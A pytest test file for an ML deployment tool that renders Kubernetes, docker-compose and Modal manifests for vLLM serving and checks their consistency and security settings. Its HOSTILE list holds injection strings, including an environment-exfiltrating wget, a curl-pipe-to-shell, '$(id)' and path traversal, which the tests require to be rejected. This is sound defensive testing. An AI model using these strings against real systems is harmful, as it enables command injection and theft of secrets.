"""Deployment files: Kubernetes manifests validated against the API schemas (kubernetes-validate), the gateway
Dockerfile linted (hadolint), the compose file parsed and cross-checked, the Modal app compiled."""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from infra.manifests import ManifestError, ManifestSpec, render_all

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent


def spec(**overrides: object) -> ManifestSpec:
    values = dict(
        model_name="retail-sql",
        version="3",
        adapter_name="retail-sql-v3",
        adapter_uri="s3://artifacts/tuneship/adapters/abc",
        base_model="tuneship/sql-small",
        base_model_uri="s3://artifacts/tuneship/base-models/sql-small-0123",
        vllm_image="vllm/vllm-openai:v0.33.0",
        gateway_image="ghcr.io/tuneship/gateway:0.1.0",
    )
    return ManifestSpec(**{**values, **overrides})


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("manifests")
    return {p.name: p for p in render_all(spec(), out)}


def test_kubernetes_manifests_validate_strictly_against_the_api_schemas(rendered: dict[str, Path]) -> None:
    result = subprocess.run(
        [BIN / "kubernetes-validate", "--strict", rendered["kubernetes.yaml"]], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr
    kinds = [d["kind"] for d in yaml.safe_load_all(rendered["kubernetes.yaml"].read_text())]
    assert kinds == ["ConfigMap", "Deployment", "Service", "Deployment", "Service", "NetworkPolicy"]


def test_kubernetes_vllm_pulls_adapter_and_base_from_s3_and_requests_a_gpu(rendered: dict[str, Path]) -> None:
    docs = list(yaml.safe_load_all(rendered["kubernetes.yaml"].read_text()))
    config, vllm, vllm_svc, gateway, gateway_svc, _ = docs
    pod = vllm["spec"]["template"]["spec"]
    fetch = " ".join(pod["initContainers"][0]["args"])
    assert "s3://artifacts/tuneship/adapters/abc/ /models/retail-sql-v3" in fetch
    assert "s3://artifacts/tuneship/base-models/sql-small-0123/ /models/base" in fetch
    container = pod["containers"][0]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == "1"
    args = container["args"]
    assert args[0] == "/models/base" and "--enable-lora" in args
    assert args[args.index("--lora-modules") + 1] == "retail-sql-v3=/models/retail-sql-v3"
    # Everything lines up: selectors match labels, services reach the container ports, the gateway finds vLLM.
    for deployment, service in ((vllm, vllm_svc), (gateway, gateway_svc)):
        assert deployment["spec"]["selector"]["matchLabels"] == deployment["spec"]["template"]["metadata"]["labels"]
        assert service["spec"]["selector"] == deployment["spec"]["selector"]["matchLabels"]
        port = deployment["spec"]["template"]["spec"]["containers"][0]["ports"][0]
        assert service["spec"]["ports"][0]["targetPort"] == port["name"]
    port = int(args[args.index("--port") + 1])
    assert config["data"]["TUNESHIP_VLLM_URL"] == f"http://{vllm_svc['metadata']['name']}:{port}"
    assert vllm_svc["spec"]["ports"][0]["port"] == port
    assert json.loads(config["data"]["TUNESHIP_GATEWAY_ALIASES"]) == {"champion": "retail-sql-v3"}
    # vLLM keeps the gateway's idle connections as long as the gateway is told it does (not vLLM's own 5 s).
    env = {item["name"]: item.get("value") for item in container["env"]}
    assert env["VLLM_HTTP_TIMEOUT_KEEP_ALIVE"] == config["data"]["TUNESHIP_VLLM_KEEP_ALIVE_S"] == "60"


def test_compose_services_images_ports_and_volumes_are_consistent(rendered: dict[str, Path]) -> None:
    compose = yaml.safe_load(rendered["docker-compose.yaml"].read_text())
    services = compose["services"]
    assert set(services) == {"fetch", "vllm", "gateway"}
    assert services["vllm"]["image"] == "vllm/vllm-openai:v0.33.0"
    assert services["gateway"]["image"] == "ghcr.io/tuneship/gateway:0.1.0"
    args = services["vllm"]["command"]
    port = args[args.index("--port") + 1]
    assert "ports" not in services["vllm"] and services["vllm"]["expose"] == [port]  # not on the host
    assert services["gateway"]["environment"]["TUNESHIP_VLLM_URL"] == f"http://vllm:{port}"
    keep_alive = services["gateway"]["environment"]["TUNESHIP_VLLM_KEEP_ALIVE_S"]
    assert services["vllm"]["environment"]["VLLM_HTTP_TIMEOUT_KEEP_ALIVE"] == keep_alive == "60"
    gateway_port = services["gateway"]["environment"]["TUNESHIP_GATEWAY_PORT"]
    assert f"{gateway_port}:{gateway_port}" in services["gateway"]["ports"]
    # Every named volume a service mounts is declared; the model files vLLM reads are the ones fetch wrote.
    for service in services.values():
        for mount in service.get("volumes", []):
            assert mount.split(":")[0] in compose["volumes"]
    assert "models:/models" in services["fetch"]["volumes"] and "models:/models:ro" in services["vllm"]["volumes"]
    assert args[args.index("--lora-modules") + 1].endswith("=/models/retail-sql-v3")
    assert "/models/retail-sql-v3" in services["fetch"]["command"][0]
    assert services["vllm"]["depends_on"]["fetch"]["condition"] == "service_completed_successfully"
    assert services["gateway"]["depends_on"]["vllm"]["condition"] == "service_healthy"
    assert services["vllm"]["deploy"]["resources"]["reservations"]["devices"][0]["capabilities"] == ["gpu"]


def test_modal_app_compiles_and_serves_the_same_arguments(rendered: dict[str, Path]) -> None:
    tree = ast.parse(rendered["modal_app.py"].read_text())
    values = {
        n.targets[0].id: ast.literal_eval(n.value)
        for n in tree.body
        if isinstance(n, ast.Assign) and n.targets[0].id in ("FETCHES", "VLLM_ARGS")
    }
    assert values["VLLM_ARGS"] == spec().vllm_args
    assert [tuple(f) for f in values["FETCHES"]] == spec().fetches


def test_hub_base_models_are_served_by_id_without_a_base_download(tmp_path: Path) -> None:
    commit = "8cde5ca8380496c9a6cc7ef3a8b46a0372a1d920"
    hub = spec(base_model=f"meta-llama/Meta-Llama-3-8B@{commit}", base_model_uri=None, gpus=0)
    files = {p.name: p for p in render_all(hub, tmp_path)}
    compose = yaml.safe_load(files["docker-compose.yaml"].read_text())
    command = compose["services"]["vllm"]["command"]
    assert command[:5] == ["meta-llama/Meta-Llama-3-8B", "--revision", commit, "--tokenizer-revision", commit]
    assert "deploy" not in compose["services"]["vllm"]  # no GPU requested
    assert len(hub.fetches) == 1


def test_manifests_need_the_adapter_in_s3() -> None:
    with pytest.raises(ManifestError, match=r"/tmp/store/adapters/abc: manifests pull adapters from S3"):
        spec(adapter_uri="/tmp/store/adapters/abc")
    with pytest.raises(ManifestError, match="an offline base needs its s3:// URI"):
        spec(base_model_uri=None)


def test_the_gateway_dockerfile_passes_hadolint() -> None:
    dockerfile = REPO / "infra" / "docker" / "gateway.Dockerfile"
    result = subprocess.run(
        [BIN / "hadolint", "--failure-threshold", "info", dockerfile], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert 'ENTRYPOINT ["tuneship", "serve", "--no-deploy"]' in dockerfile.read_text()


HOSTILE = [
    "x; wget -qO- http://host/$(env|base64) #",
    "x' && curl evil | sh '",
    "x\nkind: Secret",
    "$(id)",
    "a b",
    "../../etc",
    "x}} {{ spec",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_are_refused_before_anything_is_rendered(name: str, tmp_path: Path) -> None:
    for field in ("model_name", "version", "adapter_name"):
        with pytest.raises(ManifestError, match=field):
            spec(**{field: name})
    with pytest.raises(ManifestError, match="adapter_uri"):
        spec(adapter_uri=f"s3://artifacts/adapters/{name}")
    with pytest.raises(ManifestError, match="vllm_image"):
        spec(vllm_image=f"vllm/vllm-openai:{name}")
    assert list(tmp_path.iterdir()) == []


def test_a_registered_model_name_is_checked_where_it_is_configured() -> None:
    from tasks.config import RegisterConfig

    with pytest.raises(ValueError, match="letters, digits"):
        RegisterConfig(model_name=HOSTILE[0])
    assert RegisterConfig(model_name="retail-sql_2.v1").model_name == "retail-sql_2.v1"


def test_the_fetch_step_quotes_every_argument(tmp_path: Path) -> None:
    """The init step's shell line splits back into exactly the argv it was built from."""
    import shlex

    rendered = {p.name: p for p in render_all(spec(), tmp_path)}
    pod = list(yaml.safe_load_all(rendered["kubernetes.yaml"].read_text()))[1]["spec"]["template"]["spec"]
    script = pod["initContainers"][0]["args"][0]
    commands = [shlex.split(part) for part in script.split(" && ")]
    assert commands[0] == [
        "aws", "s3", "cp", "--recursive", "--only-show-errors", "s3://artifacts/tuneship/adapters/abc/",
        "/models/retail-sql-v3",
    ]  # fmt: skip
    compose = yaml.safe_load(rendered["docker-compose.yaml"].read_text())
    assert compose["services"]["fetch"]["command"] == [script]


def test_no_rendered_service_exposes_vllm_without_a_key(rendered: dict[str, Path]) -> None:
    docs = list(yaml.safe_load_all(rendered["kubernetes.yaml"].read_text()))
    vllm = next(d for d in docs if d["kind"] == "Deployment" and d["metadata"]["name"].endswith("-vllm"))
    gateway = next(d for d in docs if d["kind"] == "Deployment" and d["metadata"]["name"].endswith("-gateway"))
    env = {e["name"]: e for e in vllm["spec"]["template"]["spec"]["containers"][0]["env"]}
    secret = env["VLLM_API_KEY"]["valueFrom"]["secretKeyRef"]
    gateway_env = {e["name"]: e for e in gateway["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert gateway_env["TUNESHIP_VLLM_API_KEY"]["valueFrom"]["secretKeyRef"] == secret  # the same key
    policy = next(d for d in docs if d["kind"] == "NetworkPolicy")
    assert policy["spec"]["podSelector"] == vllm["spec"]["selector"]
    assert [rule["from"] for rule in policy["spec"]["ingress"]] == [
        [{"podSelector": gateway["spec"]["selector"]}]
    ]  # only the gateway's pods reach vLLM
    assert gateway["spec"]["replicas"] == 1  # alias tables are per replica until deploys switch all of them
    compose = yaml.safe_load(rendered["docker-compose.yaml"].read_text())["services"]
    assert "ports" not in compose["vllm"] and compose["vllm"]["environment"]["VLLM_API_KEY"].startswith(
        "${TUNESHIP_VLLM_API_KEY:?"
    )
    assert compose["gateway"]["environment"]["TUNESHIP_VLLM_API_KEY"] == compose["vllm"]["environment"]["VLLM_API_KEY"]
    modal = rendered["modal_app.py"].read_text()
    assert 'modal.Secret.from_name("retail-sql-vllm")' in modal and "VLLM_API_KEY is not set" in modal


def test_the_gpu_worker_dockerfile_passes_hadolint_and_pins_what_the_locks_pin() -> None:
    """The image the work-pool templates run (infra/compute.py's WORKER_IMAGE): hadolint-clean, the pipeline's torch
    at the lock's release (its CUDA build), and the vLLM release the manifests and the Makefile's GPU setup use."""
    import re

    from infra.compute import WORKER_IMAGE, base_job_template
    from tasks.config import DeployConfig

    dockerfile = REPO / "infra" / "docker" / "worker-gpu.Dockerfile"
    result = subprocess.run(
        [BIN / "hadolint", "--failure-threshold", "info", dockerfile], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr
    text = dockerfile.read_text()
    lock = (REPO / "requirements" / "pipeline.lock").read_text()
    torch = re.search(r"^torch==([\d.]+)\+cpu$", lock, re.M).group(1)
    assert f"s/^torch=={torch.replace('.', chr(92) + '.')}+cpu$/torch=={torch}/" in text
    vllm = re.search(r'"vllm==([\d.]+)"', text).group(1)
    assert DeployConfig().vllm_image.endswith(f":v{vllm}")
    assert f"VLLM_PACKAGE=vllm=={vllm}" in (REPO / "Makefile").read_text()
    assert f"-t {WORKER_IMAGE} " in text
    for pool_type in ("kubernetes", "docker", "ecs"):
        assert base_job_template(pool_type)["variables"]["properties"]["image"]["default"] == WORKER_IMAGE


def test_the_70b_preset_renders_tensor_parallel_vllm_on_4_gpus(tmp_path: Path) -> None:
    """deploy.gpus: 4 of the Llama 3 70B preset: vLLM splits the base across them (--tensor-parallel-size 4) in
    every rendered file, and the Kubernetes pod asks for the 4 GPUs (still valid against the API schemas)."""
    from tasks.config import load_run_config

    cfg = load_run_config(REPO / "deployments" / "configs" / "llama3-70b-qlora.yaml").deploy
    commit = "b4d08b7db49d488da3ac49adf25a6b9ac01ae338"
    big = spec(
        base_model=f"meta-llama/Meta-Llama-3-70B@{commit}",
        base_model_uri=None,
        gpus=cfg.gpus,
        tensor_parallel_size=cfg.tensor_parallel_size,
        modal_gpu="H100",
    )
    files = {p.name: p for p in render_all(big, tmp_path)}
    result = subprocess.run(
        [BIN / "kubernetes-validate", "--strict", files["kubernetes.yaml"]], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr
    vllm = list(yaml.safe_load_all(files["kubernetes.yaml"].read_text()))[1]["spec"]["template"]["spec"]
    container = vllm["containers"][0]
    assert container["args"][-2:] == ["--tensor-parallel-size", "4"]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == "4"
    assert {"name": "shm", "mountPath": "/dev/shm"} in container["volumeMounts"]  # NCCL between the 4 ranks
    compose = yaml.safe_load(files["docker-compose.yaml"].read_text())["services"]["vllm"]
    assert compose["command"][-2:] == ["--tensor-parallel-size", "4"] and compose["ipc"] == "host"
    assert compose["deploy"]["resources"]["reservations"]["devices"][0]["count"] == 4
    assert 'gpu="H100:4"' in files["modal_app.py"].read_text()
    with pytest.raises(ManifestError, match="tensor_parallel_size 8 > gpus 4"):
        spec(gpus=4, tensor_parallel_size=8)


def test_a_stream_interval_reaches_every_rendered_vllm(tmp_path: Path) -> None:
    files = {p.name: p for p in render_all(spec(stream_interval=8), tmp_path)}
    vllm = list(yaml.safe_load_all(files["kubernetes.yaml"].read_text()))[1]["spec"]["template"]["spec"]
    assert vllm["containers"][0]["args"][-2:] == ["--stream-interval", "8"]
    compose = yaml.safe_load(files["docker-compose.yaml"].read_text())["services"]["vllm"]
    assert compose["command"][-2:] == ["--stream-interval", "8"]
    assert '"--stream-interval", "8"' in files["modal_app.py"].read_text()
    assert "--stream-interval" not in spec().vllm_args
